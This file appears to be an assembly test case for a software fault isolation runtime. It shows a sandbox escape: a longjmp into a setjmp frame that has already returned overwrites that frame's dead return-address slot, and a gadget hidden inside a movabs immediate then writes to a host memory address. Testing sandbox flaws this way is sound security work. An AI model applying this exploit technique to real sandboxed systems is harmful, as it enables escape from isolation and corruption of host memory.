# setjmp_noleave.s: longjmp into a frame that has returned. The runtime
# (runtime/sys/setjmp.c) treats a context as live until the pass's
# __sfi_sys_setjmp_leave call or a deeper setjmp; a hand-written module
# simply never calls leave. setter() calls setjmp and returns; attack()
# then writes a chosen value into the dead return-address slot of setter
# (now inside attack's own, larger frame) and longjmps: setter resumes with
# its stale %rsp, and its `ret` pops the attacker's value. Here it is a
# gadget hidden in a movabs immediate (mov %r12,(%rbx); add $8,%rsp; ret,
# with rbx/r12 restored by longjmp from setjmp time), which writes the host
# canary and returns to the host normally.
        .text
        .p2align 4, 0xcc
        .globl attack
        .type attack,@function
attack:                             # rdi = host address, rsi = value
        subq $8, %rsp               # rsp = M
        movq %rdi, %rbx
        movq %rsi, %r12
        call setter                 # its return slot S = M - 8
        subq $16, %rsp              # rsp = M - 16 = S - 8
        leaq holder+2(%rip), %rax
        movq %rax, 8(%rsp)          # [S] = gadget
        leaq buf(%rip), %rdi
        movl $1, %esi
        call *__sfi_sys_longjmp@GOTPCREL(%rip)
        ud2

        .p2align 4, 0xcc
        .globl setter
        .type setter,@function
setter:
        subq $8, %rsp
        leaq buf(%rip), %rdi
        call *__sfi_sys_setjmp@GOTPCREL(%rip)
        addq $8, %rsp               # resumed by longjmp with rsp = S - 8
        ret                         # pops [S]

        .p2align 4, 0xcc
        .globl holder
        .type holder,@function
holder:
        .byte 0x48, 0xb8            # movabs $imm64, %rax; imm64 =
        .byte 0x4c, 0x89, 0x23      #   mov %r12,(%rbx)
        .byte 0x48, 0x83, 0xc4, 0x08 #  add $8,%rsp
        .byte 0xc3                  #   ret
        ret

        .data
        .p2align 3
buf:    .quad 0

        .include "marker.inc"
        .section .note.GNU-stack,"",@progbits
